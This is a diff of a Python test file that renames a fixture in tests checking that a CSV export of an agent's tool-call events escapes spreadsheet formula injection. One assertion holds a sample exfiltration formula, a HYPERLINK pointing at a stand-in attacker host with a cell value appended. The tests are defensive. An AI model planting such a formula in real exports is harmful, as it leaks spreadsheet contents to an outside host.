@@ -20,7 +20,7 @@ HASHED = ("run", "tool_call", "kind", "actor", "actor_label", "payload", "create
 
 
 @pytest.fixture
-def events():
+def formula_events():
     """A call to a tool the model made up per formula, each proposed by an actor labelled with it."""
     run = Run.objects.create(agent="support", request="Help Dana.")
     message = Message.objects.create(run=run, seq=0, role="assistant")
@@ -48,10 +48,10 @@ def stored(cell: str) -> str:
 
 
 @pytest.mark.parametrize("export", ["admin", "command"])
-def test_no_exported_cell_starts_like_a_formula(admin_client, events, export):
+def test_no_exported_cell_starts_like_a_formula(admin_client, formula_events, export):
     text = exported_via_admin(admin_client) if export == "admin" else exported_via_command()
     rows = list(csv.reader(io.StringIO(text, newline="")))
-    assert len(rows) == len(events) + 1
+    assert len(rows) == len(formula_events) + 1
     for row in rows:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
@@ -59,16 +59,16 @@ def test_no_exported_cell_starts_like_a_formula(admin_client, events, export):
     assert tools == ["'" + formula for formula in FORMULAS] + ["''quoted already"]
 
 
-def test_every_cell_is_quoted_and_the_quotes_inside_are_doubled(admin_client, events):
+def test_every_cell_is_quoted_and_the_quotes_inside_are_doubled(admin_client, formula_events):
     text = exported_via_admin(admin_client)
     assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"' in text
     first_line = text.splitlines()[1]
-    assert first_line.startswith(f'"{events[0].pk}","')
+    assert first_line.startswith(f'"{formula_events[0].pk}","')
 
 
-def test_an_exported_csv_line_can_still_be_checked_without_reviewhub(admin_client, events):
+def test_an_exported_csv_line_can_still_be_checked_without_reviewhub(admin_client, formula_events):
     rows = list(csv.DictReader(io.StringIO(exported_via_admin(admin_client), newline="")))
-    for row, event in zip(rows, events, strict=True):
+    for row, event in zip(rows, formula_events, strict=True):
         line = {key: stored(value) for key, value in row.items()}
         hashed = {key: line[key] for key in HASHED}
         hashed.update(
